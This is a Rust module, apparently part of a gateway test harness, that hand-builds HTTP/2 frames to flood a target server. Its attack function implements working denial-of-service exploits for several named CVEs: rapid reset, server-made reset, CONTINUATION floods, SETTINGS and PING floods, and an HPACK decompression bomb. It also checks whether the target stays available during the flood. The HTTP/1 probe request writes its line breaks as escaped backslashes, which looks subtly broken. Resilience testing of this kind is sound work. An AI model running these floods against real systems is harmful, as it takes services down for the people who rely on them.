//! Floods of HTTP/2 (RFC 9113), frame by frame: no library lets one be this bad.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use crate::Loot;
use crate::gateway::{connect, talk};

/// Types of frames, RFC 9113, section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Most bytes of a frame that a peer must take.
const FRAME: usize = 16_384;
/// How long a flood may take. Whoever stops reading has stopped it.
const PATIENCE: Duration = Duration::from_secs(12);

pub fn attack(name: &str, args: &[&str]) -> Option<Loot> {
    Some(match (name, args) {
        ("h2-flood", [kind, count, to, path]) => {
            count.parse().map_err(io::Error::other).and_then(|count| flood(kind, count, to, path))
        }
        _ => return None,
    })
}

/// What came back.
#[derive(Default)]
struct Answers {
    /// Heads, and those of them with status 200.
    heads: usize,
    ok: usize,
    /// Bytes of bodies.
    bytes: usize,
    resets: usize,
    /// The last error code of a RST_STREAM, and that of a GOAWAY.
    reset: Option<u32>,
    goaway: Option<u32>,
    /// Whether the peer closed.
    closed: bool,
}

/// Sends one of the floods, so many times its element, while others ask on connections of their own; then asks once more,
/// says what became of all, and holds the connection until its standard input ends.
fn flood(kind: &str, count: usize, to: &str, path: &str) -> Loot {
    let over = Arc::new(AtomicBool::new(false));
    let beside = beside(to, Arc::clone(&over));
    let stream = connect(to)?;
    stream.set_write_timeout(Some(Duration::from_secs(3)))?;
    let mut writer = io::BufWriter::with_capacity(1 << 16, stream.try_clone()?);
    let settings: &[u8] = match kind {
        // SETTINGS_INITIAL_WINDOW_SIZE 0: nothing of a body may be sent.
        "stall" => &[0, 4, 0, 0, 0, 0],
        // SETTINGS_HEADER_TABLE_SIZE 2^32-1, SETTINGS_MAX_HEADER_LIST_SIZE 2^32-1.
        "table" => &[0, 1, 255, 255, 255, 255, 0, 6, 255, 255, 255, 255],
        _ => &[],
    };
    writer.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
    frame(&mut writer, SETTINGS, 0, 0, settings)?;
    // All that is sent may be sent, as far as the connection goes.
    frame(&mut writer, WINDOW_UPDATE, 0, 0, &0x7fff_0000u32.to_be_bytes())?;
    writer.flush()?;
    let reads = !matches!(kind, "settings-deaf" | "ping-deaf");
    let done = Arc::new(AtomicUsize::new(0));
    let reader = reads.then(|| reader(&stream, Arc::clone(&done))).transpose()?;
    // As many at once as a server admits, where each is to be answered.
    let most = if matches!(kind, "ask" | "table") { 90 } else { usize::MAX };
    let begun = Instant::now();
    let mut sent = 0;
    let mut stopped = None;
    while sent < count && begun.elapsed() < PATIENCE {
        if sent - done.load(Ordering::Relaxed).min(sent) >= most {
            if let Err(e) = writer.flush() {
                stopped = Some(e);
                break;
            }
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        if let Err(e) = element(&mut writer, kind, sent, to, path) {
            stopped = Some(e);
            break;
        }
        sent += 1;
    }
    let flushed = writer.flush();
    while most < usize::MAX && done.load(Ordering::Relaxed) < sent && begun.elapsed() < PATIENCE {
        std::thread::sleep(Duration::from_millis(1));
    }
    let stopped = stopped.or(flushed.err());
    // A last PING: what is answered was read.
    let alive = stopped.is_none() && frame(&mut writer, PING, 0, 0, b"the last").and_then(|()| writer.flush()).is_ok();
    let later = last(to);
    over.store(true, Ordering::Relaxed);
    let served = beside.join().map_err(|_| io::Error::other("a thread"))?;
    let took = begun.elapsed();
    println!(
        "sent={sent} stopped={} beside={served} later={later} seconds={}",
        stopped.map_or("no".to_owned(), |e| format!("{:?}", e.kind())),
        took.as_secs()
    );
    // The test looks at the gateway now, while the connection is held.
    println!("held");
    io::stdin().read_to_end(&mut Vec::new())?;
    stream.shutdown(std::net::Shutdown::Write).unwrap_or_default();
    let Some(reader) = reader else { return Ok("deaf".to_owned()) };
    let got = reader.join().map_err(|_| io::Error::other("the reader"))?;
    let word = |code: Option<u32>| code.map_or("none".to_owned(), |code| code.to_string());
    Ok(format!(
        "heads={} ok={} bytes={} resets={} reset={} goaway={} closed={} alive={alive}",
        got.heads,
        got.ok,
        got.bytes,
        got.resets,
        word(got.reset),
        word(got.goaway),
        got.closed
    ))
}

/// The next of a flood.
fn element(to: &mut impl Write, kind: &str, n: usize, place: &str, path: &str) -> io::Result<()> {
    let stream = u32::try_from(2 * n + 1).map_err(io::Error::other)?;
    let whole = END_STREAM | END_HEADERS;
    match kind {
        // The control: a request like any other.
        "ask" => frame(to, HEADERS, whole, stream, &head(place, path)),
        // CVE-2023-44487.
        "reset" => {
            frame(to, HEADERS, whole, stream, &head(place, path))?;
            frame(to, RST_STREAM, 0, stream, &8u32.to_be_bytes())
        }
        // CVE-2025-8671: the server is made to reset.
        "made-reset" => {
            frame(to, HEADERS, END_HEADERS, stream, &head(place, path))?;
            frame(to, WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes())
        }
        // CVE-2024-27316: a head that never ends, in pieces, or in pieces of nothing.
        "continuation" | "continuation-empty" => {
            if n == 0 {
                frame(to, HEADERS, END_STREAM, 1, &head(place, path))?;
            }
            let mut piece = Vec::new();
            if kind == "continuation" {
                field(&mut piece, b"x-piece", &vec![b'a'; FRAME - 64]);
            }
            frame(to, CONTINUATION, 0, 1, &piece)
        }
        // CVE-2019-9515, CVE-2019-9512: each must be acknowledged.
        "settings" | "settings-deaf" => frame(to, SETTINGS, 0, 0, &[]),
        "ping" | "ping-deaf" => frame(to, PING, 0, 0, b"12345678"),
        // CVE-2019-9513, CVE-2019-9518.
        "priority" => frame(to, PRIORITY, 0, stream, &[0, 0, 0, 0, 15]),
        "empty-data" => {
            if n == 0 {
                frame(to, HEADERS, END_HEADERS, 1, &post(place, path))?;
            }
            frame(to, DATA, 0, 1, &[])
        }
        // CVE-2016-6581: one field of 4000 bytes in the table, and a head of references to it: 48 MB.
        "hpack" => {
            let mut block = head(place, path);
            indexed_field(&mut block, b"x-bomb", &[b'b'; 3900]);
            block.extend([0x80 | 62; 12_000]);
            frame(to, HEADERS, whole, stream, &block)
        }
        // Its own table larger than what it was told: RFC 7541, section 6.3.
        "hpack-size" => {
            let mut block = vec![0x3f];
            number(&mut block, (1 << 30) - 31);
            block.extend(head(place, path));
            frame(to, HEADERS, whole, stream, &block)
        }
        // What comes back may fill as large a table as the server likes.
        "table" => frame(to, HEADERS, whole, stream, &head(place, &format!("{path}?n={n}"))),
        // A hundred large answers at a time, none of which is taken.
        "stall" => frame(to, HEADERS, whole, stream, &head(place, path)),
        // RFC 8441, which nobody offered.
        "extended" => {
            let mut block = head(place, path);
            // `:method` again would be malformed for another reason.
            block.remove(0);
            let mut with = Vec::new();
            literal(&mut with, 0x02, b"CONNECT");
            with.extend(&block);
            field(&mut with, b":protocol", b"websocket");
            frame(to, HEADERS, END_HEADERS, stream, &with)
        }
        _ => Err(io::ErrorKind::InvalidInput.into()),
    }
}

/// One frame, RFC 9113, section 4.1.
fn frame(to: &mut impl Write, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> io::Result<()> {
    let length = u32::try_from(payload.len()).map_err(io::Error::other)?;
    to.write_all(&length.to_be_bytes()[1..])?;
    to.write_all(&[kind, flags])?;
    to.write_all(&stream.to_be_bytes())?;
    to.write_all(payload)
}

/// The head of a GET: HPACK (RFC 7541) by the static table, nothing kept in the other.
fn head(place: &str, path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    literal(&mut block, 0x04, path.as_bytes());
    literal(&mut block, 0x01, place.as_bytes());
    block
}

fn post(place: &str, path: &str) -> Vec<u8> {
    let mut block = head(place, path);
    block[0] = 0x83;
    block
}

/// A field whose name is in the static table.
fn literal(block: &mut Vec<u8>, name: u8, value: &[u8]) {
    block.push(name);
    string(block, value);
}

/// A field that is not kept, and one that is.
fn field(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    block.push(0);
    string(block, name);
    string(block, value);
}

fn indexed_field(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    block.push(0x40);
    string(block, name);
    string(block, value);
}

/// A string without Huffman's code.
fn string(block: &mut Vec<u8>, value: &[u8]) {
    if value.len() < 127 {
        block.push(value.len() as u8);
    } else {
        block.push(127);
        number(block, value.len() - 127);
    }
    block.extend(value);
}

/// What of a number does not fit into its prefix (RFC 7541, section 5.1).
fn number(block: &mut Vec<u8>, mut rest: usize) {
    while rest >= 128 {
        block.push((rest % 128 + 128) as u8);
        rest /= 128;
    }
    block.push(rest as u8);
}

/// Reads frames until the peer closes; counts streams that were answered or reset.
fn reader(stream: &TcpStream, done: Arc<AtomicUsize>) -> io::Result<JoinHandle<Answers>> {
    let stream = stream.try_clone()?;
    stream.set_read_timeout(Some(PATIENCE + Duration::from_secs(3)))?;
    Ok(std::thread::spawn(move || {
        let mut reader = io::BufReader::new(stream);
        let mut got = Answers::default();
        let code = |payload: &[u8]| Some(u32::from_be_bytes(payload.try_into().ok()?));
        loop {
            let mut start = [0; 9];
            match reader.read_exact(&mut start) {
                Ok(()) => {}
                Err(e) => {
                    got.closed = e.kind() != io::ErrorKind::WouldBlock;
                    return got;
                }
            }
            let mut payload = vec![0; usize::from(start[0]) << 16 | usize::from(start[1]) << 8 | usize::from(start[2])];
            if reader.read_exact(&mut payload).is_err() {
                got.closed = true;
                return got;
            }
            match start[3] {
                HEADERS => {
                    got.heads += 1;
                    done.fetch_add(1, Ordering::Relaxed);
                    got.ok += usize::from(is_ok(&payload));
                }
                DATA => got.bytes += payload.len(),
                RST_STREAM => {
                    got.resets += 1;
                    done.fetch_add(1, Ordering::Relaxed);
                    got.reset = code(&payload);
                }
                GOAWAY => got.goaway = payload.get(4..8).and_then(code),
                _ => {}
            }
        }
    }))
}

/// Whether a head begins with `:status: 200`, which is 0x88. Changes of the table's size may stand before it (RFC 7541,
/// section 6.3).
fn is_ok(mut block: &[u8]) -> bool {
    while let [first @ 0x20..0x40, rest @ ..] = block {
        block = rest;
        if *first == 0x3f {
            let more = block.iter().take_while(|byte| **byte >= 128).count();
            block = block.get(more + 1..).unwrap_or_default();
        }
    }
    block.first() == Some(&0x88)
}

/// Asks on connections of its own until the flood is over; how many of how many were answered.
fn beside(to: &str, over: Arc<AtomicBool>) -> JoinHandle<String> {
    let to = to.to_owned();
    std::thread::spawn(move || {
        let (mut answered, mut asked) = (0, 0);
        while asked == 0 || !over.load(Ordering::Relaxed) {
            asked += 1;
            answered += usize::from(last(&to) == "200");
            std::thread::sleep(Duration::from_millis(20));
        }
        format!("{answered}/{asked}")
    })
}

/// The status of one request of HTTP/1.
fn last(to: &str) -> String {
    let request = format!("GET /ok/beside HTTP/1.1\\r\\nHost: {to}\\r\\nConnection: close\\r\\n\\r\\n");
    let answer = talk(to, &[&request]).unwrap_or_default();
    answer.strip_prefix("HTTP/1.1 ").and_then(|rest| rest.get(..3)).unwrap_or("none").to_owned()
}
